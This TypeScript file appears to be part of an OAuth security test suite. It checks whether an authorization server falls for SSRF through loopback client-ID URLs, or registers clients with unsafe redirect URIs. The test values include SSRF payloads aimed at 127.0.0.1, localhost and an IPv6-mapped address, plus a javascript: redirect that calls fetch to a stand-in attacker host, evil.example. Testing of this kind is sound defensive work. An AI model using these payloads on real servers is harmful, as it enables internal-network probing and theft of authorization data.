// Attacks through client registration. A URL client id (a client ID metadata document) makes the
// authorization server fetch a URL the attacker chose: aimed inside (loopback, private networks,
// 169.254.169.254), that is server-side request forgery. Dynamic registration lets anyone register
// redirect URIs: a javascript: one turns the redirect into script in the server's name.
import { createServer, type Server } from 'node:net'
import { CALLBACK } from '@workshop/kit/oauth-client'
import { describe, onAuthorizationServer } from '../context.ts'
import { type Attack, type Outcome, blocked, gotThrough, notApplicable } from './types.ts'

const group = 'client-metadata'

/** A listener on 127.0.0.1 that only counts connections: if the server fetches our URL, we see it. */
async function withTrap(use: (port: number) => Promise<Outcome>): Promise<Outcome> {
  let connections = 0
  const trap: Server = createServer((socket) => {
    connections += 1
    socket.destroy()
  })
  await new Promise<void>((resolve) => trap.listen(0, '127.0.0.1', resolve))
  try {
    const port = (trap.address() as { port: number }).port
    const outcome = await use(port)
    return connections > 0 ? gotThrough(`the server connected to 127.0.0.1:${port}, a loopback port the attacker chose`) : outcome
  } finally {
    trap.close()
  }
}

/** /authorize with a URL client id pointing at the trap: got through if the server connects to it. */
function ssrf(id: string, title: string, clientId: (port: number) => string): Attack {
  return {
    id,
    title,
    group,
    defence: 'ssrf-guard',
    rule: 'CIMD draft (SSRF), RFC 6890',
    run: onAuthorizationServer(async (_ctx, as) => {
      if (as.metadata.client_id_metadata_document_supported !== true)
        return notApplicable('it does not accept client ID metadata documents')
      return withTrap(async (port) => {
        const client = { client_id: clientId(port), token_endpoint_auth_method: 'none', redirect_uris: [CALLBACK] }
        return blocked(describe((await as.start({ client })).reply))
      })
    }),
  }
}

/** RFC 7591 registration with one redirect URI: got through if the client is created with it. */
function register(id: string, title: string, redirectUri: string, rule: string): Attack {
  return {
    id,
    title,
    group,
    defence: 'registration-checks',
    rule,
    run: onAuthorizationServer(async (_ctx, as) => {
      if (typeof as.metadata.registration_endpoint !== 'string') return notApplicable('no registration endpoint')
      const reply = await as.register({ client_name: 'Totally legit', redirect_uris: [redirectUri], token_endpoint_auth_method: 'none' })
      return reply.status === 201
        ? gotThrough(`client ${reply.json?.client_id} registered with redirect URI ${redirectUri}`)
        : blocked(describe(reply))
    }),
  }
}

export const clientMetadataAttacks: Attack[] = [
  ssrf('cimd-loopback', 'a client id URL on 127.0.0.1 (another port of this machine)', (port) => `https://127.0.0.1:${port}/client.json`),
  ssrf('cimd-localhost', 'a client id URL on localhost', (port) => `https://localhost:${port}/client.json`),
  ssrf('cimd-http-loopback', 'a plain-http client id URL on 127.0.0.1', (port) => `http://127.0.0.1:${port}/client.json`),
  ssrf('cimd-mapped-ipv6', 'loopback in IPv6 disguise ([::ffff:7f00:1])', (port) => `https://[::ffff:7f00:1]:${port}/client.json`),
  // RFC 7591 §5 and OAuth 2.1 §2.3.1: what a redirect URI may be.
  register(
    'register-javascript',
    'register a javascript: redirect URI',
    'javascript:fetch("https://evil.example/?"+location)//',
    'RFC 7591 §5, OAuth 2.1 §2.3.1',
  ),
  register('register-fragment', 'register a redirect URI with a fragment', 'https://client.example/cb#evil', 'RFC 6749 §3.1.2'),
  register(
    'register-remote-http',
    'register a plain-http redirect URI on another host',
    'http://client.example/cb',
    'OAuth 2.1 §2.3.1, §1.5',
  ),
]
